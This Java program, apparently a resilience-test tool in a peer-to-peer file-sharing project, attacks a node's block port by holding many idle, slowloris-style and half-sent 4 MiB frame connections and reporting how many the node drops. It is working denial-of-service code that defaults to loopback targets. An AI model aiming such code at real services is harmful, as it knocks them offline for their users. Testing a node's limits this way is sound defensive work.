/*
 * A hostile peer against a kadshare node's block port (TCP), run as a single-file program with
 * only the JDK:
 *
 *   java hostile/BlockPortAttack.java --target 127.14.0.1:4870 --content <64 hex> \
 *       [--from 127.14.0.66] [--idle 1000] [--slowloris 250] \
 *       [--half-frames 200] [--half-frame-from 127.14.1.1] [--half-frame-addresses 25] \
 *       [--seconds 60] [--reconnects-per-second 200]
 *
 * It keeps three kinds of connection open for --seconds, reopening those the node closes (at most
 * --reconnects-per-second in all):
 *   idle       connect from --from and send nothing;
 *   slowloris  connect from --from and send a HANDSHAKE one byte per second;
 *   half-frame connect (spread over --half-frame-addresses addresses counting up from
 *              --half-frame-from), send a HANDSHAKE for --content, then the length prefix of a
 *              legal 4 MiB frame and half of its bytes, and never the rest.
 * Every --report seconds, and at the end, it prints how many of each are open and how many the node
 * closed. It reads (and drops) whatever the node sends. It stops by itself after --seconds.
 */

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;

public final class BlockPortAttack {
    /** Limits.MAX_FRAME_LENGTH_BYTES of the wire format: 4 MiB of span data plus 4 KiB. */
    private static final int MAX_FRAME_LENGTH = (4 << 20) + 4096;

    enum Kind { IDLE, SLOWLORIS, HALF_FRAME }

    private static final class Conn {
        final Kind kind;
        final InetAddress from;
        SocketChannel channel;
        ByteBuffer toSend;
        boolean connected;
        int trickled;

        Conn(Kind kind, InetAddress from) {
            this.kind = kind;
            this.from = from;
        }
    }

    private final Map<String, String> options;
    private final InetSocketAddress target;
    private final byte[] handshake;
    private final Selector selector;
    private final List<Conn> conns = new ArrayList<>();
    private final Map<Kind, long[]> closed = new HashMap<>();
    private final ByteBuffer sink = ByteBuffer.allocateDirect(64 * 1024);
    private long opened;
    private long connectFailures;

    private BlockPortAttack(Map<String, String> options) throws IOException {
        this.options = options;
        String[] t = required(options, "target").split(":");
        this.target = new InetSocketAddress(InetAddress.getByName(t[0]), Integer.parseInt(t[1]));
        this.handshake = handshake(hex(required(options, "content")));
        this.selector = Selector.open();
        for (Kind k : Kind.values()) {
            closed.put(k, new long[1]);
        }
    }

    public static void main(String[] args) throws Exception {
        Map<String, String> options = new HashMap<>();
        for (int i = 0; i < args.length; i += 2) {
            if (!args[i].startsWith("--") || i + 1 >= args.length) {
                System.err.println("usage: see the comment at the top of BlockPortAttack.java");
                System.exit(2);
            }
            options.put(args[i].substring(2), args[i + 1]);
        }
        new BlockPortAttack(options).run();
    }

    private int number(String name, int fallback) {
        return Integer.parseInt(options.getOrDefault(name, Integer.toString(fallback)));
    }

    private void run() throws Exception {
        InetAddress from = InetAddress.getByName(options.getOrDefault("from", "127.14.0.66"));
        InetAddress halfFrom = InetAddress.getByName(options.getOrDefault("half-frame-from", "127.14.1.1"));
        int halfAddresses = number("half-frame-addresses", 25);
        for (int i = 0; i < number("idle", 1000); i++) {
            conns.add(new Conn(Kind.IDLE, from));
        }
        for (int i = 0; i < number("slowloris", 250); i++) {
            conns.add(new Conn(Kind.SLOWLORIS, from));
        }
        for (int i = 0; i < number("half-frames", 200); i++) {
            conns.add(new Conn(Kind.HALF_FRAME, offset(halfFrom, i % halfAddresses)));
        }
        long seconds = number("seconds", 60);
        long reportEvery = number("report", 5);
        int reconnectsPerSecond = number("reconnects-per-second", 200);
        long start = System.nanoTime();
        long end = start + seconds * 1_000_000_000L;
        long nextTick = start;
        long nextReport = start + reportEvery * 1_000_000_000L;
        boolean first = true;
        int rotation = 0;
        while (System.nanoTime() < end) {
            long now = System.nanoTime();
            if (now >= nextTick) {
                nextTick += 1_000_000_000L;
                int budget = first ? Integer.MAX_VALUE : reconnectsPerSecond;
                first = false;
                // Reopening starts at a rotating place, so every kind gets its share of the budget.
                rotation = conns.isEmpty() ? 0 : (rotation + reconnectsPerSecond) % conns.size();
                for (int i = 0; i < conns.size(); i++) {
                    Conn c = conns.get((rotation + i) % conns.size());
                    if (c.channel == null && budget > 0) {
                        budget--;
                        open(c);
                    } else if (c.kind == Kind.SLOWLORIS && c.connected && c.toSend == null) {
                        c.toSend = ByteBuffer.wrap(handshake, c.trickled % handshake.length, 1);
                        c.trickled++;
                        interest(c);
                    }
                }
            }
            if (now >= nextReport) {
                nextReport += reportEvery * 1_000_000_000L;
                report((now - start) / 1_000_000_000L);
            }
            selector.select(Math.max(1, Math.min(nextTick, end) - System.nanoTime()) / 1_000_000 + 1);
            Iterator<SelectionKey> keys = selector.selectedKeys().iterator();
            while (keys.hasNext()) {
                SelectionKey key = keys.next();
                keys.remove();
                handle(key, (Conn) key.attachment());
            }
        }
        report(seconds);
        for (Conn c : conns) {
            drop(c, false);
        }
        System.out.println("attack over");
    }

    private void open(Conn c) {
        try {
            SocketChannel ch = SocketChannel.open();
            ch.configureBlocking(false);
            ch.bind(new InetSocketAddress(c.from, 0));
            c.channel = ch;
            c.connected = false;
            c.trickled = 0;
            c.toSend = null;
            opened++;
            if (ch.connect(target)) {
                connected(c);
            } else {
                ch.register(selector, SelectionKey.OP_CONNECT, c);
            }
        } catch (IOException e) {
            connectFailures++;
            drop(c, false);
        }
    }

    private void connected(Conn c) throws IOException {
        c.connected = true;
        if (c.kind == Kind.HALF_FRAME) {
            int half = MAX_FRAME_LENGTH / 2;
            ByteBuffer b = ByteBuffer.allocate(handshake.length + 5 + half);
            b.put(handshake).putInt(MAX_FRAME_LENGTH).put((byte) 0x06);
            b.position(b.capacity()).flip();
            c.toSend = b;
        }
        interest(c);
    }

    private void interest(Conn c) {
        SelectionKey key = c.channel.keyFor(selector);
        int ops = SelectionKey.OP_READ | (c.toSend != null ? SelectionKey.OP_WRITE : 0);
        try {
            if (key == null) {
                c.channel.register(selector, ops, c);
            } else if (key.isValid()) {
                key.interestOps(ops);
            }
        } catch (IOException e) {
            drop(c, true);
        }
    }

    private void handle(SelectionKey key, Conn c) {
        try {
            if (!key.isValid()) {
                return;
            }
            if (key.isConnectable()) {
                try {
                    c.channel.finishConnect();
                } catch (IOException refused) {
                    connectFailures++;
                    drop(c, false);
                    return;
                }
                connected(c);
                return;
            }
            if (key.isReadable()) {
                sink.clear();
                if (c.channel.read(sink) < 0) {
                    drop(c, true);
                    return;
                }
            }
            if (key.isValid() && key.isWritable() && c.toSend != null) {
                c.channel.write(c.toSend);
                if (!c.toSend.hasRemaining()) {
                    c.toSend = null;
                    interest(c);
                }
            }
        } catch (IOException e) {
            drop(c, true);
        }
    }

    private void drop(Conn c, boolean byNode) {
        if (c.channel == null) {
            return;
        }
        if (byNode) {
            closed.get(c.kind)[0]++;
        }
        try {
            c.channel.close();
        } catch (IOException ignored) {
            // closing is best effort
        }
        c.channel = null;
        c.connected = false;
        c.toSend = null;
    }

    private void report(long atSecond) {
        StringBuilder line = new StringBuilder("t=" + atSecond + "s");
        for (Kind k : Kind.values()) {
            long open = conns.stream().filter(c -> c.kind == k && c.connected).count();
            line.append("  ").append(k.name().toLowerCase()).append(": ").append(open).append(" open, ")
                    .append(closed.get(k)[0]).append(" closed by the node");
        }
        line.append("  (connections opened: ").append(opened).append(", failed: ").append(connectFailures).append(')');
        System.out.println(line);
    }

    private static InetAddress offset(InetAddress base, int n) throws IOException {
        byte[] a = base.getAddress();
        int v = ((a[0] & 0xFF) << 24 | (a[1] & 0xFF) << 16 | (a[2] & 0xFF) << 8 | (a[3] & 0xFF)) + n;
        return InetAddress.getByAddress(new byte[] {(byte) (v >>> 24), (byte) (v >>> 16), (byte) (v >>> 8), (byte) v});
    }

    /** HANDSHAKE (docs/PROTOCOL.md section 5): a random node ID, the content, length unknown, holding nothing. */
    private static byte[] handshake(byte[] contentId) {
        byte[] nodeId = new byte[20];
        new Random().nextBytes(nodeId);
        ByteBuffer b = ByteBuffer.allocate(4 + 67);
        b.putInt(67).put((byte) 0x01).put("KSXF".getBytes(java.nio.charset.StandardCharsets.US_ASCII)).put((byte) 1);
        b.put(nodeId).put(contentId).putLong(-1).put((byte) 0);
        return b.array();
    }

    private static byte[] hex(String s) {
        if (!s.matches("[0-9a-f]{64}")) {
            throw new IllegalArgumentException("--content takes a 64-character hex content ID, got " + s);
        }
        byte[] out = new byte[32];
        for (int i = 0; i < 32; i++) {
            out[i] = (byte) Integer.parseInt(s.substring(2 * i, 2 * i + 2), 16);
        }
        return out;
    }

    private static String required(Map<String, String> options, String name) {
        String v = options.get(name);
        if (v == null) {
            throw new IllegalArgumentException("--" + name + " is required");
        }
        return v;
    }
}
